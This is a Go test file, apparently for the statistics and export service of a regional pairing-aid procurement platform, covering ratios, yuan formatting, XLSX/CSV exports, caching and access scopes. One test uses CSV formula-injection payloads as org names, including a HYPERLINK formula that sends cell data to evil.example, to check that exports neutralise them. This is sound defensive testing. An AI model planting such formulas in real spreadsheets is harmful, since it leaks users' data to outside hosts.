		{-1, 3, "-0.3333", "-0.3333"},
		{-1, 30000, "0.0000", "0"}, // no negative zero
		{5, 0, "null", "null"},
		{5, -1, "null", "null"},
	} {
		r := stats.Completion(tc.num, tc.den)
		if got := fmtRatio(r); got != tc.want {
			t.Errorf("Completion(%d, %d) = %s, want %s", tc.num, tc.den, got, tc.want)
		}
		b, err := json.Marshal(r)
		if err != nil || string(b) != tc.json {
			t.Errorf("Completion(%d, %d) JSON = %s (%v), want %s", tc.num, tc.den, b, err, tc.json)
		}
		var back *stats.Ratio
		if err := json.Unmarshal(b, &back); err != nil || fmtRatio(back) != tc.want {
			t.Errorf("Completion(%d, %d) read back = %s (%v), want %s", tc.num, tc.den, fmtRatio(back), err, tc.want)
		}
	}
}

func TestYuan(t *testing.T) {
	for cents, want := range map[int64]string{
		12345: "123.45", -5: "-0.05", 0: "0.00", 100: "1.00", 7: "0.07", -12345: "-123.45",
		-9223372036854775808: "-92233720368547758.08", 9223372036854775807: "92233720368547758.07",
	} {
		if got := stats.Yuan(cents); got != want {
			t.Errorf("Yuan(%d) = %s, want %s", cents, got, want)
		}
	}
}

func TestExport(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		f := seed(t, b.Store)
		s := stats.New(b.Store, nil, b.Store)
		ctx := context.Background()

		t.Run("xlsx", func(t *testing.T) {
			file, err := s.Export(ctx, admin, stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}, Format: stats.FormatXLSX})
			if err != nil {
				t.Fatal(err)
			}
			if file.Name != "shanhai-stats-2026.xlsx" || !strings.Contains(file.ContentType, "spreadsheetml") {
				t.Errorf("file %s, %s", file.Name, file.ContentType)
			}
			x, err := excelize.OpenReader(bytes.NewReader(file.Body))
			if err != nil {
				t.Fatalf("open the workbook: %v", err)
			}
			defer x.Close()
			if got := strings.Join(x.GetSheetList(), ","); got != "结对统计,单位统计,区县排名" {
				t.Errorf("sheets = %s", got)
			}
			cell := func(sheet, ref string) string {
				t.Helper()
				v, err := x.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
				if err != nil {
					t.Fatal(err)
				}
				return v
			}

			pr, err := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2026, Month: 0}})
			if err != nil {
				t.Fatal(err)
			}
			for i, it := range pr.Items {
				row := i + 2
				want := []string{fmt.Sprint(it.Pairing.ID), "", "", it.Pairing.Helper.Name, it.Pairing.Partner.Name,
					optYuan(it.TargetCents), stats.Yuan(it.CreditedCents), stats.Yuan(it.CountyCents),
					stats.Yuan(it.DirectCents), stats.Yuan(it.AssistedCents), optRatio(it.Completion), fmt.Sprint(it.Orders)}
				for c, w := range want {
					if c == 1 || c == 2 {
						continue // programme and level names
					}
					ref, _ := excelize.CoordinatesToCellName(c+1, row)
					if got := cell("结对统计", ref); got != w {
						t.Errorf("结对统计!%s = %q, want %q", ref, got, w)
					}
				}
			}
			if got := cell("结对统计", "G2"); got != "73.40" {
				t.Errorf("P1 credited = %q, want 73.40 (yuan)", got)
			}
			if got := cell("结对统计", "K2"); got != "0.7340" {
				t.Errorf("P1 completion = %q, want 0.7340", got)
			}
			// the not-credited totals below the table
			base := len(pr.Items) + 4 // header, items, a blank row, the section's header
			for i, nc := range pr.NotCredited {
				ref := fmt.Sprintf("B%d", base+i)
				if got := cell("结对统计", ref); got != nc.Reason {
					t.Errorf("%s = %q, want %s", ref, got, nc.Reason)
				}
				if got := cell("结对统计", fmt.Sprintf("G%d", base+i)); got != stats.Yuan(nc.Cents) {
					t.Errorf("G%d = %q, want %s", base+i, got, stats.Yuan(nc.Cents))
				}
			}
			if got := cell("结对统计", fmt.Sprintf("G%d", base+len(pr.NotCredited))); got != "1.00" {
				t.Errorf("not credited total = %q, want 1.00", got)
			}

			or, err := s.Orgs(ctx, admin, stats.Query{Period: stats.Period{Year: 2026}, ParentID: 0})
			if err != nil {
				t.Fatal(err)
			}
			for i, o := range or.Items {
				row := i + 2
				for ref, w := range map[string]string{
					"A": fmt.Sprint(deref(o.Rank)), "B": fmt.Sprint(o.Org.ID), "C": o.Org.Name,
					"F": stats.Yuan(o.PurchasesCents), "G": stats.Yuan(o.CertifiedCents), "H": stats.Yuan(o.SubtreeCertifiedCents),
					"I": stats.Yuan(o.CreditedCents), "J": stats.Yuan(o.SubtreeCreditedCents),
					"K": optYuan(o.ReservedCents), "L": deref(o.FilingStatus), "M": optRatio(o.Completion),
				} {
					if got := cell("单位统计", fmt.Sprintf("%s%d", ref, row)); got != w {
						t.Errorf("单位统计!%s%d = %q, want %q", ref, row, got, w)
					}
				}
			}
			if got := cell("单位统计", "M3"); got != "0.2999" {
				t.Errorf("B's completion = %q, want 0.2999", got)
			}

			dr, err := s.Districts(ctx, admin, stats.Query{Period: stats.Period{Year: 2026}})
			if err != nil {
				t.Fatal(err)
			}
			for i, d := range dr.Items {
				row := i + 2
				for ref, w := range map[string]string{
					"A": fmt.Sprint(d.Rank), "B": d.Region.Code, "C": d.Region.Name, "D": optYuan(d.TargetCents),
					"E": stats.Yuan(d.CreditedCents), "F": stats.Yuan(d.DirectCents), "G": stats.Yuan(d.AssistedCents),
					"H": optRatio(d.Completion), "I": fmt.Sprint(d.Orders),
				} {
					if got := cell("区县排名", fmt.Sprintf("%s%d", ref, row)); got != w {
						t.Errorf("区县排名!%s%d = %q, want %q", ref, row, got, w)
					}
				}
			}
		})

		t.Run("csv", func(t *testing.T) {
			for _, tc := range []struct {
				in     stats.ExportInput
				name   string
				header string
				rows   int
			}{
				{stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}, Format: stats.FormatCSV}, "shanhai-stats-2026-pairings.csv", "结对编号", 7 + 1 + 1 + 5 + 1},
				{stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026, Month: 5}}, Format: stats.FormatCSV, Table: stats.TablePairings}, "shanhai-stats-2026-05-pairings.csv", "结对编号", 7 + 1 + 1 + 5 + 1},
				{stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}, Format: stats.FormatCSV, Table: stats.TableOrgs}, "shanhai-stats-2026-orgs.csv", "排名", 3},
				{stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}, ParentID: f.org["A"].ID}, Format: stats.FormatCSV, Table: stats.TableOrgs}, "shanhai-stats-2026-orgs.csv", "排名", 5},
				{stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}, Format: stats.FormatCSV, Table: stats.TableRegions}, "shanhai-stats-2026-regions.csv", "排名", 6},
			} {
				file, err := s.Export(ctx, admin, tc.in)
				if err != nil {
					t.Fatal(err)
				}
				if file.Name != tc.name || !strings.HasPrefix(file.ContentType, "text/csv") {
					t.Errorf("file %s (%s), want %s", file.Name, file.ContentType, tc.name)
				}
				if !bytes.HasPrefix(file.Body, []byte{0xEF, 0xBB, 0xBF}) {
					t.Fatalf("%s does not start with the UTF-8 byte-order mark: % x", file.Name, file.Body[:min(8, len(file.Body))])
				}
				recs, err := readCSV(file.Body[3:])
				if err != nil {
					t.Fatal(err)
				}
				if recs[0][0] != tc.header || len(recs)-1 != tc.rows {
					t.Errorf("%s: header %q, %d rows, want %q and %d", file.Name, recs[0][0], len(recs)-1, tc.header, tc.rows)
				}
			}
			// the pairings csv holds the API's figures
			file, err := s.Export(ctx, admin, stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}, Format: stats.FormatCSV})
			if err != nil {
				t.Fatal(err)
			}
			recs, _ := readCSV(file.Body[3:])
			pr, _ := s.Pairings(ctx, admin, stats.Query{Period: stats.Period{Year: 2026, Month: 0}})
			for i, it := range pr.Items {
				got := strings.Join(recs[i+1][5:], ",")
				want := strings.Join([]string{optYuan(it.TargetCents), stats.Yuan(it.CreditedCents), stats.Yuan(it.CountyCents),
					stats.Yuan(it.DirectCents), stats.Yuan(it.AssistedCents), optRatio(it.Completion), fmt.Sprint(it.Orders)}, ",")
				if got != want {
					t.Errorf("row %d: %s, want %s", i+1, got, want)
				}
			}
			if got := strings.Join(recs[1][3:5], "→"); got != "绍兴市→乐山市" {
				t.Errorf("region names: %s", got)
			}
		})

		t.Run("scopes", func(t *testing.T) {
			// a partner-side officer's workbook has no org sheet
			file, err := s.Export(ctx, jinkouhe, stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}})
			if err != nil {
				t.Fatal(err)
			}
			x, err := excelize.OpenReader(bytes.NewReader(file.Body))
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(x.GetSheetList(), ","); got != "结对统计,区县排名" {
				t.Errorf("sheets = %s", got)
			}
			x.Close()
			if _, err := s.Export(ctx, jinkouhe, stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}, Format: stats.FormatCSV, Table: stats.TableOrgs}); !errors.Is(err, model.ErrForbidden) {
				t.Errorf("partner officer's org csv: %v, want forbidden", err)
			}
			// a helper officer's csv has their figures only
			file, err = s.Export(ctx, shangyuOfficer, stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}, Format: stats.FormatCSV})
			if err != nil {
				t.Fatal(err)
			}
			recs, _ := readCSV(file.Body[3:])
			if got := strings.Join(recs[1][:7], ","); got != fmt.Sprintf("%d,东西部协作,市级,绍兴市,乐山市,100.00,43.40", f.p["P1"]) {
				t.Errorf("Shangyu's P1 row: %s", got)
			}
			for _, in := range []stats.ExportInput{
				{Query: year2026, Format: "pdf"}, {Query: year2026, Table: "users"},
				{Query: stats.Query{Period: stats.Period{Year: 1999}}},
				{Query: stats.Query{Period: stats.Period{From: 202601, To: 202512}}},
				{Query: stats.Query{Period: stats.Period{Year: 2026}, Programme: "both"}},
			} {
				if _, err := s.Export(ctx, admin, in); !errors.Is(err, model.ErrInvalid) {
					t.Errorf("%+v: %v, want invalid", in, err)
				}
			}
		})
	})
}

func readCSV(b []byte) ([][]string, error) {
	r := csv.NewReader(bytes.NewReader(b))
	r.FieldsPerRecord = -1
	return r.ReadAll()
}

func optYuan(c *int64) string {
	if c == nil {
		return ""
	}
	return stats.Yuan(*c)
}

func optRatio(r *stats.Ratio) string {
	if r == nil {
		return ""
	}
	return r.String()
}

func TestText(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		seed(t, b.Store)
		var out bytes.Buffer
		if err := stats.New(b.Store, nil, b.Store).WriteText(context.Background(), &out, year2026); err != nil {
			t.Fatal(err)
		}
		text := out.String()
		for _, want := range []string{"pairing", "county part", "绍兴市→乐山市", "73.40", "63.40", "0.7340", "no_pairing", "0.70", "total"} {
			if !strings.Contains(text, want) {
				t.Errorf("the table lacks %q:\n%s", want, text)
			}
		}
		lines := strings.Split(strings.TrimSpace(text), "\n")
		if len(lines) < 10 {
			t.Fatalf("too short:\n%s", text)
		}
	})
}

// memCache is a Cache in a map, counting fetches.
type memCache struct {
	mu      sync.Mutex
	m       map[string][]byte
	fetches int
}

func (c *memCache) Load(ctx context.Context, key string, fetch func(ctx context.Context) ([]byte, error)) ([]byte, error) {
	c.mu.Lock()
	v, ok := c.m[key]
	c.mu.Unlock()
	if ok {
		return v, nil
	}
	v, err := fetch(ctx)
	if err != nil {
		return nil, err
	}
	c.mu.Lock()
	c.m[key] = v
	c.fetches++
	c.mu.Unlock()
	return v, nil
}

// TestCacheScopes: a cached answer is the same as a fresh one, and one
// scope's answer is never served to another.
func TestCacheScopes(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		f := seed(t, b.Store)
		ctx := context.Background()
		c := &memCache{m: map[string][]byte{}}
		cachedSvc, fresh := stats.New(b.Store, c, b.Store), stats.New(b.Store, nil, b.Store)
		callers := []*model.User{admin, shangyuOfficer, keqiaoOfficer, jinkouhe, officer("330600"), orgAdmin(f.org["A"])}
		for round := 0; round < 2; round++ {
			for _, who := range callers {
				for name, call := range map[string]func(s *stats.Service) (any, error){
					"pairings": func(s *stats.Service) (any, error) {
						return s.Pairings(ctx, who, stats.Query{Period: stats.Period{Year: 2026, Month: 0}})
					},
					"may": func(s *stats.Service) (any, error) {
						return s.Pairings(ctx, who, stats.Query{Period: stats.Period{Year: 2026, Month: 5}})
					},
					"monthly": func(s *stats.Service) (any, error) {
						return s.Monthly(ctx, who, f.p["P1"], stats.Query{Period: stats.Period{Year: 2026}})
					},
					"orgs": func(s *stats.Service) (any, error) {
						return s.Orgs(ctx, who, stats.Query{Period: stats.Period{Year: 2026}, ParentID: 0})
					},
					"orgs A": func(s *stats.Service) (any, error) {
						return s.Orgs(ctx, who, stats.Query{Period: stats.Period{Year: 2026}, ParentID: f.org["A"].ID})
					},
					"regions": func(s *stats.Service) (any, error) {
						return s.Districts(ctx, who, stats.Query{Period: stats.Period{Year: 2026}})
					},
				} {
					got, gerr := call(cachedSvc)
					want, werr := call(fresh)
					gb, _ := json.Marshal(got)
					wb, _ := json.Marshal(want)
					if (gerr == nil) != (werr == nil) || string(gb) != string(wb) {
						t.Errorf("round %d, %s as %s %v: cached %s (%v), fresh %s (%v)", round, name, who.Role,
							who.RegionCode, gb, gerr, wb, werr)
					}
				}
			}
		}
		if c.fetches == 0 || len(c.m) != c.fetches {
			t.Errorf("%d entries, %d fetches", len(c.m), c.fetches)
		}
	})
}

// An org named like a formula is text in every export: neutralised in csv
// (a spreadsheet would run it), a plain string in xlsx; negative amounts
// stay numbers.
func TestExportFormulaNames(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		seed(t, b.Store)
		ctx := context.Background()
		names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"点击")`, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"}
		for _, name := range names {
			o := &model.Org{Name: name, Kind: model.OrgCanteen, RegionCode: "330604", PaymentTerms: model.TermsPrepay,
				CreditKind: model.CreditDirect}
			if err := b.Store.CreateOrg(ctx, o); err != nil {
				t.Fatal(err)
			}
		}
		s := stats.New(b.Store, nil, b.Store)

		file, err := s.Export(ctx, admin, stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}, Format: stats.FormatCSV, Table: stats.TableOrgs})
		if err != nil {
			t.Fatal(err)
		}
		recs, err := readCSV(file.Body[3:])
		if err != nil {
			t.Fatal(err)
		}
		seen := map[string]bool{}
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell == "" {
					continue
				}
				if strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("csv cell %q starts like a formula", cell)
				}
				if cell[0] == '-' && !isNumber(cell) {
					t.Errorf("csv cell %q starts like a formula", cell)
				}
				if strings.HasPrefix(cell, "'") {
					seen[cell[1:]] = true
				}
			}
		}
		for _, name := range names {
			// the csv writer (CRLF lines, as Excel wants) drops a lone CR
			if !seen[strings.ReplaceAll(name, "\r", "")] {
				t.Errorf("org %q is not in the csv as inert text", name)
			}
		}

		file, err = s.Export(ctx, admin, stats.ExportInput{Query: stats.Query{Period: stats.Period{Year: 2026}}, Format: stats.FormatXLSX})
		if err != nil {
			t.Fatal(err)
		}
		x, err := excelize.OpenReader(bytes.NewReader(file.Body))
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		rows, err := x.GetRows("单位统计", excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for r, row := range rows {
			for c, v := range row {
				for _, name := range names {
					if v != name {
						continue
					}
					found++
					ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if formula, _ := x.GetCellFormula("单位统计", ref); formula != "" {
						t.Errorf("xlsx %s holds a formula %q", ref, formula)
					}
					if typ, _ := x.GetCellType("单位统计", ref); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("xlsx %s (%q) has type %v, want a string", ref, v, typ)
					}
				}
			}
		}
		if found != len(names) {
			t.Errorf("xlsx holds %d of the %d names verbatim", found, len(names))
		}
	})
}

func isNumber(s string) bool {
	_, err := strconv.ParseFloat(s, 64)
	return err == nil
}

// TestRatioCmp: completions order by value across signs and beyond the
// range of int64 ten-thousandths (the rankings sort by it).
func TestRatioCmp(t *testing.T) {
	asc := []*stats.Ratio{
		stats.Completion(math.MinInt64, 1), stats.Completion(-3, 2), stats.Completion(-1, 3),
		stats.Completion(0, 1), stats.Completion(1, 3), stats.Completion(2, 3), stats.Completion(1, 1),
		stats.Completion(15, 10), stats.Completion(math.MaxInt64/10000+1, 1), stats.Completion(math.MaxInt64, 1),
	}
	for i, a := range asc {
		for j, b := range asc {
			if got, want := a.Cmp(*b), cmp.Compare(i, j); got != want {
				t.Errorf("%s Cmp %s = %d, want %d", a, b, got, want)
			}
		}
	}
	if *stats.Completion(-1, 30000) != *stats.Completion(0, 1) {
		t.Errorf("a negative value rounded to zero is not zero")
	}
}

// TestPeriodsAndProgrammes: a range of months sums exactly its months (a
// whole year as its year row), its target is the whole years it covers, a
// completion only over whole years; a programme keeps its own pairings and
// its own district ranking.
func TestPeriodsAndProgrammes(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		f := seed(t, b.Store)
		// a mountain_sea sale in Keqiao in June, and its pairing's target
		for _, period := range []int{202606, 202600} {
			mustCreate(t, b.Store, &model.RollupPairing{Period: period, PairingID: f.p["P6"], Kind: model.CreditDirect,
				Channel: model.OrgCanteen, Cents: 800, Orders: 1})
			mustCreate(t, b.Store, &model.RollupArea{Period: period, PairingID: f.p["P6"], Kind: model.CreditDirect,
				BuyerRegion: "330603", OriginCode: "330881", Cents: 800, Orders: 1})
			mustCreate(t, b.Store, &model.RollupSale{Period: period, PairingID: f.p["P6"], Kind: model.CreditDirect,
				Channel: model.OrgCanteen, Platform: model.PlatformMall, BuyerRegion: "330603", OriginCode: "330881", Cents: 800, Orders: 1})
			mustCreate(t, b.Store, &model.RollupPlatform{Period: period, PairingID: f.p["P6"], Mall: true,
				BuyerRegion: "330603", OriginCode: "330881", Cents: 800, Orders: 1})
		}
		mustCreate(t, b.Store, &model.Target{PairingID: f.p["P6"], Year: 2026, TargetCents: 400})
		s := stats.New(b.Store, nil, b.Store)
		ctx := context.Background()
		pairings := func(q stats.Query) *stats.PairingReport {
			t.Helper()
			r, err := s.Pairings(ctx, admin, q)
			if err != nil {
				t.Fatal(err)
			}
			return r
		}

		t.Run("a range across a year's end", func(t *testing.T) {
			r := pairings(stats.Query{Period: stats.Period{From: 202512, To: 202605}})
			if r.From != "2025-12" || r.To != "2026-05" || r.Year != 0 {
				t.Errorf("header: year %d from %q to %q", r.Year, r.From, r.To)
			}
			// no whole year inside: no target, no completion; December 2025
			// and January–May 2026 counted once each, June left out
			wantLines(t, byPairing(f, r), map[string]string{
				"P1": "target=null credited=107339 county=106339 direct=105999 assisted=1340 completion=null orders=14",
				"P2": "target=null credited=104339 county=0 direct=102999 assisted=1340 completion=null orders=12",
				"P3": "target=null credited=2000 county=0 direct=2000 assisted=0 completion=null orders=1",
				"P4": "target=null credited=0 county=0 direct=0 assisted=0 completion=null orders=0",
				"P5": "target=null credited=500 county=0 direct=500 assisted=0 completion=null orders=1",
				"P6": "target=null credited=0 county=0 direct=0 assisted=0 completion=null orders=0",
				"P7": "target=null credited=0 county=0 direct=0 assisted=0 completion=null orders=0",
			})
			if r.NotCreditedCents != 100 {
				t.Errorf("not credited = %d, want 100", r.NotCreditedCents)
			}
		})

		t.Run("two whole years", func(t *testing.T) {
			r := pairings(stats.Query{Period: stats.Period{From: 202501, To: 202612}})
			got := byPairing(f, r)
			for name, want := range map[string]string{
				// 2025's target (999) and 2026's (none) for P5; 2026's alone for P1 and P6
				"P1": "target=10000 credited=107339 county=106339 direct=105999 assisted=1340 completion=10.7339 orders=14",
				"P5": "target=999 credited=500 county=0 direct=500 assisted=0 completion=0.5005 orders=1",
				"P6": "target=400 credited=800 county=0 direct=800 assisted=0 completion=2.0000 orders=1",
			} {
				if got[name] != want {
					t.Errorf("%s:\n got %s\nwant %s", name, got[name], want)
				}
			}
			// one month as a range is that month
			month := pairings(stats.Query{Period: stats.Period{From: 202603, To: 202603}})
			if got := byPairing(f, month)["P2"]; got != "target=null credited=3000 county=0 direct=3000 assisted=0 completion=null orders=2" {
				t.Errorf("March as a range, P2: %s", got)
			}
		})

		t.Run("one programme", func(t *testing.T) {
			r := pairings(stats.Query{Period: stats.Period{Year: 2026}, Programme: model.ProgrammeMountainSea})
			wantLines(t, byPairing(f, r), map[string]string{
				"P6": "target=400 credited=800 county=0 direct=800 assisted=0 completion=2.0000 orders=1",
				"P7": "target=null credited=800 county=800 direct=800 assisted=0 completion=null orders=1",
			})
			ew := byPairing(f, pairings(stats.Query{Period: stats.Period{Year: 2026}, Programme: model.ProgrammeEastWest}))
			if len(ew) != 5 || ew["P6"] != "" || ew["P7"] != "" || ew["P1"] == "" {
				t.Errorf("east_west lists %v, want P1–P5", ew)
			}
		})

		t.Run("districts per programme", func(t *testing.T) {
			get := func(q stats.Query) []string {
				t.Helper()
				r, err := s.Districts(ctx, admin, q)
				if err != nil {
					t.Fatal(err)
				}
				return districtLines(r)
			}
			wantList(t, get(stats.Query{Period: stats.Period{Year: 2026}, Programme: model.ProgrammeMountainSea}), []string{
				"#1 330603 柯桥区 target=400 credited=800 direct=800 assisted=0 orders=1 completion=2.0000",
				"#2 330602 越城区 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
				"#2 330604 上虞区 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
				"#2 330624 新昌县 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
				"#2 330681 诸暨市 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
				"#2 330683 嵊州市 target=null credited=0 direct=0 assisted=0 orders=0 completion=null",
			})
			// east_west is the table without the June mountain_sea sale
			ew := get(stats.Query{Period: stats.Period{Year: 2026}, Programme: model.ProgrammeEastWest})
			if len(ew) != 6 || ew[0] != "#1 330603 柯桥区 target=2000 credited=3500 direct=3500 assisted=0 orders=3 completion=1.7500" {
				t.Errorf("east_west districts: %q", ew)
			}
			// both programmes together: Keqiao's purchases and targets of both
			both := get(stats.Query{Period: stats.Period{Year: 2026}})
			if !slices.ContainsFunc(both, func(l string) bool { return strings.Contains(l, "330603 柯桥区 target=2400 credited=4300 ") }) {
				t.Errorf("both programmes: %q", both)
			}
			// a range of two months: no target
			rng := get(stats.Query{Period: stats.Period{From: 202605, To: 202606}, Programme: model.ProgrammeMountainSea})
			if rng[0] != "#1 330603 柯桥区 target=null credited=800 direct=800 assisted=0 orders=1 completion=null" {
				t.Errorf("May–June mountain_sea: %q", rng)
			}
		})

		t.Run("an org's month has no completion", func(t *testing.T) {
			r, err := s.Orgs(ctx, admin, stats.Query{Period: stats.Period{Year: 2026, Month: 5}})
			if err != nil {
				t.Fatal(err)
			}
			for _, it := range r.Items {
				if it.Org.ID == f.org["A"].ID && (it.ReservedCents == nil || *it.ReservedCents != 10000 || it.Completion != nil || it.SubtreeCertifiedCents != 0) {
					t.Errorf("A in May: reserved %s completion %s subtree certified %d", fmtCents(it.ReservedCents), fmtRatio(it.Completion), it.SubtreeCertifiedCents)
				}
			}
			if r.Month != 5 {
				t.Errorf("month = %d", r.Month)
			}
		})
	})
}

// TestProvincePairing: a province pairing's figures include those of every
// city and county pairing inside it, as its county part.
func TestProvincePairing(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		f := seed(t, b.Store)
		row := &model.Pairing{Programme: model.ProgrammeEastWest, Level: model.LevelProvince, HelperCode: "330000",
			PartnerCode: "510000", SinceYear: 2021, Active: true}
		mustCreate(t, b.Store, row)
		f.p["P8"] = row.ID
		r, err := stats.New(b.Store, nil, b.Store).Pairings(context.Background(), admin, year2026)
		if err != nil {
			t.Fatal(err)
		}
		// P1 (the city pairing, 1000 of its own) + P2 4340 + P3 2000 + P5 500 (Aba is in Sichuan too)
		if got := byPairing(f, r)["P8"]; got != "target=null credited=7840 county=7840 direct=6500 assisted=1340 completion=null orders=6" {
			t.Errorf("P8: %s", got)
		}
	})
}

// TestOnlineOffline: a pairing's credited splits into what was sold in the
// mall and what off-platform records brought; orders count the mall's
// orders and records the records.
func TestOnlineOffline(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		f := seed(t, b.Store)
		for _, period := range []int{202607, 202600} {
			mustCreate(t, b.Store, &model.RollupPairing{Period: period, PairingID: f.p["P3"], Kind: model.CreditDirect,
				Channel: "offline", Cents: 900, Orders: 1})
			mustCreate(t, b.Store, &model.RollupSale{Period: period, PairingID: f.p["P3"], Kind: model.CreditDirect,
				Channel: "offline", Platform: "832", BuyerRegion: "330603", OriginCode: "511132", Cents: 900, Orders: 1})
			mustCreate(t, b.Store, &model.RollupPlatform{Period: period, PairingID: f.p["P3"], Mall: false,
				BuyerRegion: "330603", OriginCode: "511132", Cents: 900, Orders: 1})
		}
		r, err := stats.New(b.Store, nil, b.Store).Pairings(context.Background(), admin, year2026)
		if err != nil {
			t.Fatal(err)
		}
		for _, it := range r.Items {
			if it.Pairing.ID == f.p["P3"] && (it.CreditedCents != 2900 || it.OnlineCents != 2000 || it.OfflineCents != 900 ||
				it.Orders != 1 || it.Records != 1) {
				t.Errorf("P3: credited %d online %d offline %d orders %d records %d", it.CreditedCents, it.OnlineCents,
					it.OfflineCents, it.Orders, it.Records)
			}
			// the city pairing holds its county pairings' split too
			if it.Pairing.ID == f.p["P1"] && (it.OfflineCents != 900 || it.Records != 1 || it.OnlineCents != 7340) {
				t.Errorf("P1: online %d offline %d records %d", it.OnlineCents, it.OfflineCents, it.Records)
			}
		}
	})
}
